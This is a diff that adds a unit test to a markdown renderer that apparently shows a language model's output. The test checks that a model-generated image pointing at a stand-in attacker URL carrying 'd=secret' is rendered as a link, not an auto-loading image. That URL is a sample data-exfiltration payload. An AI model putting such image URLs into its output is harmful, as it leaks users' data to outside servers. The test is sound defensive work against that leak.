@@ -106,3 +106,10 @@ def test_an_open_code_fence_is_never_split_at_its_blank_lines() -> None:
     rendered = renderer.update()
     assert "a\n\nb\n\nc" in rendered.appended
     assert rendered.tail == "<p>after</p>\n"
+
+
+def test_images_from_the_model_become_links_not_requests_to_other_servers() -> None:
+    html = str(render_markdown("see ![the chart](https://evil.example/?d=secret)"))
+    assert "<img" not in html
+    assert '<a href="https://evil.example/?d=secret"' in html
+    assert "the chart</a>" in html
